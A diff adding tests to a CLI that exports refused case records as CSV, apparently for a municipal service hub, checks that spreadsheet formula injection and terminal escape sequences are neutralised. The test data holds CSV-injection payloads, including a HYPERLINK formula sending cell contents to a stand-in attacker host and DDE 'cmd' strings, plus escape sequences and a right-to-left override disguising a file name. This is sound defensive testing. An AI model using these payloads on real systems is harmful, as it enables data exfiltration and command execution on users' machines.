@@ -4,6 +4,7 @@ audit log; an audit entry the window damaged does not stop the list."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from contextlib import redirect_stdout
@@ -100,3 +101,49 @@ def test_csv_keeps_english_headings_in_a_chinese_terminal(hub: Hub) -> None:
         assert main(hub.cli_args("refused", "--format", "csv"), environ={"LANGUAGE": "zh_CN"}) == 0
     assert out.getvalue().splitlines() == [
         "received_at,center,window,kind,record,reason,resolved_at,resolved_by,resolution_note"]
+
+
+def _refused_with_window_text(hub: Hub, events: EventFactory, *, number: str, supervisor: str, note: str) -> None:
+    """A case refused for its number, which a supervisor at the window then resolved:
+    every text in the list came from the window."""
+    hub.import_demo_catalog()
+    city_hall = hub.enroll("CH", "01")
+    resident = events.resident()
+    case = events.case(resident["entity_id"], number=number)
+    assert [status for status, _reason in hub.push_results(city_hall, [resident, case])] == ["applied", "rejected"]
+    with hub.db.write() as session:
+        session.add(_resolution_entry(city_hall, {"event_id": case["event_id"], "supervisor_name": supervisor,
+                                                  "note": note}))
+
+
+def test_text_from_windows_reaches_the_spreadsheet_as_text_not_as_formulas(hub: Hub, events: EventFactory) -> None:
+    formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
+    _refused_with_window_text(hub, events, number=formula, supervisor="@SUM(1+1)*cmd|' /C calc'!A0",
+                              note="-2+3+cmd|' /C calc'!A0")
+    out = io.StringIO()
+    with redirect_stdout(out):
+        assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
+    header, row = csv.reader(io.StringIO(out.getvalue()))
+    listed = dict(zip(header, row))
+    assert listed["record"] == "'" + formula
+    assert listed["resolved_by"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert listed["resolution_note"] == "'-2+3+cmd|' /C calc'!A0"
+    assert listed["reason"].startswith("The case.accepted event's ")  # no formula: as it was
+    # Nothing a spreadsheet would run is left in any cell.
+    assert not [cell for cell in row if cell[:1] in "=+-@\t\r"]
+
+
+def test_escape_sequences_from_windows_are_shown_not_obeyed_by_the_terminal(
+        hub: Hub, events: EventFactory, capsys) -> None:
+    # A title change, a link that shows other words, and letters shown in reverse order.
+    supervisor = "\x1b]0;hub owned\x07王主任\x1b[2J"
+    note = "\x1b]8;;http://attacker.invalid/\x1b\\已处理\x1b]8;;\x1b\\ \u202egnp.exe\rdone"
+    _refused_with_window_text(hub, events, number="CH-20261125-01-\x1b[31m7", supervisor=supervisor, note=note)
+    assert main(hub.cli_args("refused"), environ=ENGLISH) == 0
+    for fmt in ("text", "csv"):
+        if fmt == "csv":
+            assert main(hub.cli_args("refused", "--format", "csv"), environ=ENGLISH) == 0
+        printed = capsys.readouterr().out
+        assert not {"\x1b", "\x07", "\r", "\u202e"} & set(printed)
+        assert "\\u001b]0;hub owned\\u0007王主任\\u001b[2J" in printed  # what was there, visible
+        assert "\\u202egnp.exe\\u000ddone" in printed
